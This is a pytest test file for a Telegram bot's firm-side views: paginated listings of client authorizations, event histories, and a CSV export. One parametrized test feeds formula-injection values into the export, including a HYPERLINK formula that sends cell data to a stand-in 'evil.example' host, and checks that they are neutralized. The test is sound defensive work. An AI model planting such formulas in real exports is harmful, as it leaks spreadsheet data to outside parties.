"""What the firm's commands show, rendered without a bot: listings, history, the CSV."""

import csv
import html
import io
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.guide.guide import Guide, load_guide
from bot.storage.repository import Authorization, Event
from bot.wiring.assembly import firm_facts
from conversations.firm import firm_views
from tests.support.harness import make_settings

TZ = ZoneInfo("America/Santiago")
# 12:00 in Santiago (summer time, UTC-3).
NOON = datetime(2026, 11, 24, 15, 0, tzinfo=UTC)
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def guide(tmp_path: Path) -> Guide:
    settings = make_settings(tmp_path)
    return load_guide(settings.guide_path, firm_facts(settings))


def auth(company_rut: str = "76086428-5", **fields: object) -> Authorization:
    values: dict[str, object] = {
        "company_rut": company_rut,
        "client_chat_id": 777_001,
        "client_user_id": 777_001,
        "client_name": "Juana",
        "client_username": "juana_pyme",
        "step": 3,
        "started_at": NOON,
        "last_activity_at": NOON,
        "completed_at": None,
    }
    values.update(fields)
    return Authorization(**values)  # type: ignore[arg-type]


def visible(text: str) -> str:
    """What Telegram shows (and counts) of an HTML text."""
    return html.unescape(re.sub(r"<[^>]+>", "", text))


# --- page_count -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("total", "pages"), [(0, 1), (1, 1), (14, 1), (15, 1), (16, 2), (30, 2), (31, 3), (40, 3)]
)
def test_page_count(total: int, pages: int) -> None:
    assert firm_views.PAGE_SIZE == 15
    assert firm_views.page_count(total) == pages


# --- pending_page -----------------------------------------------------------------------


def test_pending_page_empty(guide: Guide) -> None:
    assert firm_views.pending_page(guide, [], 0, 1, TZ) == "No hay nada que mostrar."


def test_pending_page_lines_show_progress_reminders_and_marks(guide: Guide) -> None:
    items = [
        auth("76086428-5", step=0, client_chat_id=None, client_name=None, invited_name="Ana"),
        auth("11111111-1", step=4, reminders_sent=2, last_activity_at=NOON + timedelta(hours=1)),
        auth("22222222-2", step=2, opted_out_at=NOON, invited_name="Pedro"),
        auth("33333333-3", step=5, blocked_at=NOON, client_name=None),
    ]
    text = firm_views.pending_page(guide, items, 40, 2, TZ)
    lines = text.split("\n")
    assert lines[0] == ("⏳ <b>Pendientes: 40</b> (las más antiguas primero) – página 2 de 3")
    assert lines[1:] == [
        "• <code>76.086.428-5</code> Ana – invitado, sin abrir, últ. actividad 24-11-2026 12:00, "
        "0 recordatorio(s)",
        "• <code>11.111.111-1</code> Juana – paso 4 de 7, últ. actividad 24-11-2026 13:00, "
        "2 recordatorio(s)",
        "• <code>22.222.222-2</code> Pedro – paso 2 de 7, últ. actividad 24-11-2026 12:00, "
        "0 recordatorio(s) 🔕 no quiere recordatorios",
        "• <code>33.333.333-3</code> — – paso 5 de 7, últ. actividad 24-11-2026 12:00, "
        "0 recordatorio(s) 🚫 bloqueó el bot",
    ]


def test_pending_page_escapes_names_for_html(guide: Guide) -> None:
    text = firm_views.pending_page(guide, [auth(invited_name="<b>Pérez & Cía</b>")], 1, 1, TZ)
    assert "&lt;b&gt;Pérez &amp; Cía&lt;/b&gt;" in text
    assert "<b>Pérez" not in text


def test_a_full_page_of_the_longest_names_fits_one_message(guide: Guide) -> None:
    # Telegram full names reach 64 + 1 + 64 characters; both marks at once is the worst case.
    longest = "Ñ" * 64 + " " + "&" * 64
    items = [
        auth(f"{10_000_000 + n}-K", client_name=longest, opted_out_at=NOON, blocked_at=NOON)
        for n in range(firm_views.PAGE_SIZE)
    ]
    text = firm_views.pending_page(guide, items, 999, 1, TZ)
    assert text.count("\n") == firm_views.PAGE_SIZE
    assert len(visible(text)) <= 4096


# --- completed_page ---------------------------------------------------------------------


def test_completed_page_empty(guide: Guide) -> None:
    assert firm_views.completed_page(guide, [], 0, 1, None, TZ) == "No hay nada que mostrar."


def test_completed_page_lines_and_since(guide: Guide) -> None:
    items = [
        auth("76086428-5", completed_at=NOON, verified_at=NOON, verified_by="@ana"),
        auth("11111111-1", completed_at=NOON - timedelta(days=1), invited_name="Pedro"),
    ]
    since = datetime(2026, 11, 23, 3, 0, tzinfo=UTC)  # 23-11-2026 00:00 in Santiago
    text = firm_views.completed_page(guide, items, 16, 1, since, TZ)
    assert text.split("\n") == [
        "✅ <b>Completadas: 16</b> desde 23-11-2026 – página 1 de 2",
        "• <code>76.086.428-5</code> Juana – 24-11-2026 12:00 ✔️ verificada",
        "• <code>11.111.111-1</code> Pedro – 23-11-2026 12:00",
    ]
    without = firm_views.completed_page(guide, items[:1], 1, 1, None, TZ)
    assert without.split("\n")[0] == "✅ <b>Completadas: 1</b> – página 1 de 1"


# --- history ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "state"),
    [
        ({"step": 0, "client_name": None, "invited_name": "Ana"}, "invitado, sin abrir"),
        ({"step": 4}, "pendiente (paso 4 de 7)"),
        ({"step": 4, "blocked_at": NOON}, "pendiente (paso 4 de 7) 🚫 bloqueó el bot"),
        ({"step": 7, "completed_at": NOON}, "completada el 24-11-2026 12:00"),
        (
            {"step": 7, "completed_at": NOON, "verified_at": NOON, "verified_by": "@ana"},
            "completada el 24-11-2026 12:00, verificada por @ana",
        ),
    ],
)
def test_history_title_states(guide: Guide, fields: dict[str, object], state: str) -> None:
    (text,) = firm_views.history(guide, auth(**fields), [], TZ)
    assert f"Estado: {state}" in text
    assert text.startswith("📄 <b>Historial de <code>76.086.428-5</code></b>\n")


def test_history_lists_every_kind_of_event(guide: Guide) -> None:
    kinds = [
        ("invited", None, "-100555", "invitado por la firma"),
        ("invitation_opened", None, None, "abrió la invitación"),
        ("started", 1, None, "comenzó (paso 1)"),
        ("step", 2, None, "paso 2"),
        ("reminder", None, "@ana", "recordatorio enviado"),
        ("remind_later", None, None, "pidió que se lo recordaran más tarde"),
        ("opted_out", None, None, "no quiere más recordatorios"),
        ("blocked", None, None, "bloqueó el bot"),
        ("completed", 7, None, "completó ✅"),
        ("rejected", 3, "@ana", "no aparece en SII (marcado por @ana); vuelve al paso 3"),
        ("verified", None, "@ana", "verificada en SII por @ana"),
    ]
    events = [
        Event(NOON + timedelta(minutes=n), kind, step, actor)
        for n, (kind, step, actor, _) in enumerate(kinds)
    ]
    (text,) = firm_views.history(guide, auth(), events, TZ)
    lines = text.split("\n")
    assert lines[1] == "Cliente: Juana @juana_pyme"
    assert lines[3] == ""
    assert lines[4:] == [
        f"• 24-11-2026 12:{n:02d} – {what}" for n, (_, _, _, what) in enumerate(kinds)
    ]


def test_a_very_long_history_is_split_under_telegrams_limit(guide: Guide) -> None:
    events = [
        Event(NOON + timedelta(minutes=n), "reminder" if n % 2 else "step", n % 7 + 1, "@ana")
        for n in range(1500)
    ]
    texts = firm_views.history(guide, auth(), events, TZ)
    assert len(texts) > 1
    assert all(0 < len(text) <= 4096 for text in texts)
    assert texts[0].startswith("📄 <b>Historial de")
    # Nothing lost, nothing repeated, nothing cut in half, order kept.
    event_lines = [line for text in texts for line in text.split("\n") if line.startswith("• ")]
    assert len(event_lines) == 1500
    assert event_lines == [
        firm_views.history(guide, auth(), [event], TZ)[0].split("\n")[-1] for event in events
    ]


# --- export_csv -------------------------------------------------------------------------


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_export_csv_header_only(guide: Guide) -> None:
    data = firm_views.export_csv([], TZ)
    assert data.startswith(BOM)
    assert data == BOM + (";".join(firm_views.CSV_HEADER) + "\r\n").encode()
    assert _rows(data) == [list(firm_views.CSV_HEADER)]
    assert firm_views.CSV_HEADER[:3] == ("rut_empresa", "cliente", "nombre_dado_por_la_firma")


def test_export_csv_rows_states_and_escaping() -> None:
    rows = [
        auth(
            "76086428-5",
            client_name='José "Pepe" Núñez; Ltda',
            invited_name="Núñez; Pérez",
            reminders_sent=2,
            opted_out_at=NOON,
        ),
        auth(
            "11111111-1",
            step=7,
            client_name="Ana",
            client_username=None,
            completed_at=NOON + timedelta(minutes=7),
            verified_at=NOON + timedelta(hours=1),
            verified_by="Ana María",
            blocked_at=NOON,
        ),
        auth(
            "22222222-2",
            step=0,
            client_chat_id=None,
            client_user_id=None,
            client_name=None,
            client_username=None,
            invited_name=None,
        ),
        auth("33333333-3", step=7, completed_at=NOON),
    ]
    data = firm_views.export_csv(rows, TZ)
    assert data.startswith(BOM)
    assert b"\r\n" in data and data.count(b"\r\n") == 5
    parsed = _rows(data)
    assert parsed[1] == [
        "76.086.428-5",
        'José "Pepe" Núñez; Ltda',
        "Núñez; Pérez",
        "juana_pyme",
        "777001",
        "3",
        "pendiente",
        "24-11-2026 12:00",
        "24-11-2026 12:00",
        "",
        "",
        "",
        "2",
        "sí",
        "",
    ]
    assert parsed[2] == [
        "11.111.111-1",
        "Ana",
        "",
        "",
        "777001",
        "7",
        "verificada",
        "24-11-2026 12:00",
        "24-11-2026 12:00",
        "24-11-2026 12:07",
        "24-11-2026 13:00",
        "Ana María",
        "0",
        "",
        "sí",
    ]
    assert parsed[3][:8] == ["22.222.222-2", "", "", "", "", "0", "invitada", "24-11-2026 12:00"]
    assert parsed[4][6] == "completada"
    # The raw bytes quote what needs it, in UTF-8.
    assert '"José ""Pepe"" Núñez; Ltda"'.encode() in data


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/x?d="&A1,"clic")',
        "+56 9 1234 5678",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_csv_neutralizes_formulas(name: str) -> None:
    data = firm_views.export_csv(
        [auth(client_name=name, invited_name=name, verified_by=name, completed_at=NOON)], TZ
    )
    row = _rows(data)[1]
    assert row[1] == row[2] == row[11] == "'" + name


def test_export_csv_leaves_ordinary_names_alone() -> None:
    row = _rows(firm_views.export_csv([auth(client_name="Ana = jefa", invited_name="'x")], TZ))[1]
    assert row[1:3] == ["Ana = jefa", "'x"]


def test_export_csv_no_cell_starts_with_a_formula_trigger() -> None:
    rows = _rows(firm_views.export_csv([auth()], TZ))[1:]
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_export_csv_times_are_local() -> None:
    winter = datetime(2026, 7, 1, 16, 0, tzinfo=UTC)  # UTC-4 in July: 12:00 local
    row = _rows(firm_views.export_csv([replace(auth(), started_at=winter)], TZ))[1]
    assert row[7] == "01-07-2026 12:00"
